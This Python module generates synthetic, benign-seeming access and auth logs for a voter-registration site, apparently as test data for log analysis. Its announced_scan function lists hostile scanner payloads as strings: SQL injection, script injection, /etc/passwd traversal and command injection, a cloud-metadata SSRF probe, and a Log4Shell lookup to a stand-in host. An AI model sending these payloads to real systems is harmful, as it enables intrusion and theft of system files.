"""Days on which nothing bad happens, line by line: made by a seeded generator, so that none has to be kept.

Each function gives the lines of one or more logs by file name. They are as untidy as real ones: dead links, mistyped
passwords, robots that go round in circles, apostrophes in names, reloads when the server is slow.
"""

from __future__ import annotations

import datetime as dt
from collections.abc import Callable, Iterable, Mapping

import numpy as np

START = dt.datetime(2026, 10, 5, tzinfo=dt.UTC)
AGENTS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Safari/537.36",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_0 like Mac OS X) AppleWebKit/605.1.15 Version/18.0 Mobile/15E148",
    "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/129.0.0.0 Mobile",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 Version/17.5 Safari/605.1.15",
]
SITE = "https://vote.example"
PAGES = ("/", "/register", "/status", "/faq", "/polling-places", "/results", "/news", "/contact", "/absentee")
PARTS = ("/css/site.css", "/js/app.js", "/img/logo.svg", "/img/seal.png", "/fonts/body.woff2", "/img/banner-old.png")
NAMES = ("O'Brien", "D'Angelo", "Smith", "van der Berg", "N'Diaye", "Jean-Luc", "Null", "Select", "Müller", "López")

Line = tuple[float, str]
Logs = Mapping[str, list[str]]


def _address(number: int) -> str:
    return f"{23 + number % 150}.{number // 150 % 250}.{number // 37_500 % 250}.{1 + number * 7 % 250}"


def web(second: float, ip: str, request: str, status: int, size: int, came: str, agent: str) -> Line:
    """A line of an access log."""
    moment = (START + dt.timedelta(seconds=second)).strftime("%d/%b/%Y:%H:%M:%S +0000")
    return second, f'{ip} - - [{moment}] "{request} HTTP/1.1" {status} {size} "{came}" "{agent}"'


def bsd(second: float, message: str, host: str = "vote1") -> Line:
    """A line of syslog."""
    moment = START + dt.timedelta(seconds=second)
    return second, f"{moment:%b} {moment.day:2d} {moment:%H:%M:%S} {host} {message}"


def in_order(lines: Iterable[Line]) -> list[str]:
    """The lines as a server would have written them."""
    return [text for _second, text in sorted(lines, key=lambda line: line[0])]


def visits(rng: np.random.Generator, begin: float, length: float, visitors: int, first: int = 0) -> list[Line]:
    """People look at some pages; their browsers fetch what belongs to each once."""
    lines: list[Line] = []
    starts = begin + np.sort(rng.uniform(0, length, visitors))
    for at, start in enumerate(starts.tolist()):
        ip, agent = _address(first + int(rng.integers(0, max(visitors * 3 // 4, 1)))), AGENTS[int(rng.integers(0, 5))]
        second, came = start, ("-", "https://www.google.com/", "https://news.example/vote")[at % 3]
        for step in range(int(rng.integers(1, 7))):
            page = PAGES[int(rng.integers(0, len(PAGES)))] if step else PAGES[at % 3]
            size = 4_000 + 300 * PAGES.index(page) + int(rng.integers(0, 90))
            lines.append(web(second, ip, f"GET {page}", 200, size, came, agent))
            came = SITE + page
            for number, part in enumerate(PARTS if step == 0 else PARTS[-1:]):
                gone = part.endswith("old.png")
                lines.append(web(second + 1, ip, f"GET {part}", 404 if gone else 200, 800 * number + 200, came, agent))
            second += float(rng.exponential(25)) + 2
        if at % 9 == 0:
            name = NAMES[int(rng.integers(0, len(NAMES)))].replace(" ", "+").replace("'", "%27")
            lines.append(web(second, ip, f"GET /search?name={name}&page=1", 200, 2_100 + at % 60, came, agent))
        if at % 7 == 0:
            wrong = int(rng.integers(0, 3))
            lines += [web(second + 5 * k, ip, "POST /login", 401, 900, came, agent) for k in range(wrong)]
            lines.append(web(second + 5 * wrong, ip, "POST /login", 302, 300, came, agent))
            lines.append(
                web(second + 5 * wrong + 2, ip, f"GET /my/{10_000 + at * 37 % 9_000}", 200, 3_000, came, agent)
            )
        if at % 40 == 0:
            lines.append(web(second, ip, "GET /files/guide.pdf", 200, 2_400_000, came, agent))
    return lines


def deadline_day() -> Logs:
    """Three ordinary days, then the last day to register: ten times as many people, and a server that is slow."""
    rng = np.random.default_rng(1)
    lines = [line for day in range(3) for line in visits(rng, day * 86_400, 86_400, 60, 10_000 * day)]
    for second, text in visits(rng, 3 * 86_400, 86_400, 600, 50_000):
        slow = int(rng.integers(0, 25)) == 0
        lines.append((second, text.replace('" 200 ', '" 503 ', 1) if slow else text))
        if slow:
            lines.append((second + 4, text))
    return {"access.log": in_order(lines)}


def launch_crowd() -> Logs:
    """An afternoon like any, then everybody comes within ten minutes to see one thing happen, from the news."""
    rng = np.random.default_rng(2)
    lines = visits(rng, 0, 6 * 3_600, 300)
    for at, start in enumerate((6 * 3_600 + np.sort(rng.exponential(240, 900))).tolist()):
        ip, agent = _address(100_000 + at), AGENTS[at % 5]
        came = ("https://news.example/live", "https://t.co/x", "-")[at % 3]
        lines.append(web(start, ip, "GET /results/live", 200, 9_000, came, agent))
        for part in PARTS[: int(rng.integers(3, 6))]:
            lines.append(web(start + 1, ip, f"GET {part}", 200 if at % 4 else 304, 700, SITE + "/results/live", agent))
        for turn in range(int(rng.integers(0, 6))):
            request = f"GET /results/live.json?_={1_790_000_000_000 + int(start * 1000)}"
            lines.append(web(start + 10 * turn, ip, request, 200, 1_500, SITE + "/results/live", agent))
    return {"access.log": in_order(lines)}


def broken_robot() -> Logs:
    """A crawler that goes round in circles, a checker with an old list, a monitor with an old password."""
    rng = np.random.default_rng(3)
    crawler = "Mozilla/5.0 (compatible; CountyCrawler/1.2; +https://crawler.example/bot)"
    lines = visits(rng, 0, 86_400, 400)
    lines += [
        web(7.0 * at, "192.0.2.66", "GET /news" + "/archive" * (1 + at % 60) + f"/{at // 60}", 404, 300, "-", crawler)
        for at in range(1_500)
    ]
    lines += [
        web(
            20_000 + 3.0 * at, "192.0.2.67", f"HEAD /old/{at}.html", 404, 0, "-", "W3C-checklink/5.0.0 libwww-perl/6.72"
        )
        for at in range(400)
    ]
    lines += [
        web(60.0 * at, "192.0.2.68", "GET /api/health", 401, 90, "-", "Zabbix/6.4 monitor") for at in range(1_440)
    ]
    lines += [web(86.0 * at, "192.0.2.69", f"GET /calendar?month={at}", 200, 2_500, "-", crawler) for at in range(900)]
    return {"access.log": in_order(lines)}


def administrator_at_work() -> Logs:
    """Two weeks of the office: log-ins with slips, sudo, backups at night, records looked up, exports."""
    rng = np.random.default_rng(4)
    requests, auth = visits(rng, 0, 14 * 86_400, 500), list[Line]()
    desk, agent = "10.20.0.15", AGENTS[0]
    for day in range(14):
        morning = day * 86_400 + 8 * 3_600.0 + float(rng.uniform(0, 1_200))
        if day % 7 < 5:
            auth += [bsd(morning - 6 * k, f"sshd[9{day}]: Failed password for anna from {desk} port 5{day:03d} ssh2")
                     for k in range(day % 3, 0, -1)]  # fmt: skip
            auth.append(bsd(morning, f"sshd[{900 + day}]: Accepted password for anna from {desk} port 5{day:03d} ssh2"))
            auth += [
                bsd(
                    morning + 60 * k,
                    f"sudo[{k}]:     anna : TTY=pts/0 ; PWD=/srv ; USER=root ; COMMAND=/usr/bin/{each}",
                )
                for k, each in enumerate(
                    ("systemctl restart nginx", "apt-get upgrade", "less /var/log/syslog", "ls /root")
                )
            ]
            for at, voter in enumerate(rng.choice(90_000, 60, replace=False).tolist()):
                second = morning + 240 * at
                came = f"{SITE}/admin/search"
                requests.append(
                    web(
                        second, desk, f"GET /admin/search?q={NAMES[at % 10]}".replace(" ", "+"), 200, 5_000, came, agent
                    )
                )
                requests.append(
                    web(second + 9, desk, f"GET /admin/voter/{100_000 + voter}", 200, 4_000 + voter % 80, came, agent)
                )
                requests.append(web(second + 30, desk, f"POST /admin/voter/{100_000 + voter}", 302, 200, came, agent))
            requests.append(
                web(morning + 20_000, desk, f"GET /admin/export.csv?day={day}", 200, 6_000_000 + day, came, agent)
            )
        night = day * 86_400 + 2 * 3_600.0
        auth.append(
            bsd(
                night,
                f"sshd[{100 + day}]: Accepted publickey for backup from 10.20.0.9 port 4{day:03d} ssh2: RSA SHA256:x",
            )
        )
        auth.append(
            bsd(night + 1, f"CRON[{200 + day}]: pam_unix(cron:session): session opened for user root by (uid=0)")
        )
        auth.append(bsd(night + 9, f"CRON[{200 + day}]: pam_unix(cron:session): session closed for user root"))
    return {"access.log": in_order(requests), "auth.log": in_order(auth)}


def announced_scan() -> Logs:
    """A day with a vulnerability scan that somebody ordered: every attack there is, all refused."""
    rng = np.random.default_rng(5)
    tries = (
        "/.env", "/.git/config", "/wp-login.php", "/phpmyadmin/", "/cgi-bin/test.cgi", "/admin/config.php.bak",
        "/?id=1%27%20OR%20%271%27=%271", "/?q=%3Cscript%3Ealert(1)%3C/script%3E", "/?f=../../../../etc/passwd",
        "/?u=http://169.254.169.254/", "/?x=${jndi:ldap://x.example/a}", "/?c=;cat%20/etc/passwd", "/server-status",
    )  # fmt: skip
    agent = "Mozilla/5.0 [en] (X11, U; OpenVAS-VT 22.4)"
    lines = visits(rng, 0, 86_400, 400)
    for at in range(3_000):
        uri = tries[at % len(tries)].replace("?", f"p{at // len(tries)}?") if at % 3 else f"/guess{at}.php"
        lines.append(web(30_000 + 1.0 * at, "192.0.2.200", f"GET {uri}", (404, 403)[at % 2], 310, "-", agent))
    return {"access.log": in_order(lines)}


DAYS: dict[str, Callable[[], Logs]] = {
    each.__name__: each for each in (deadline_day, launch_crowd, broken_robot, administrator_at_work, announced_scan)
}
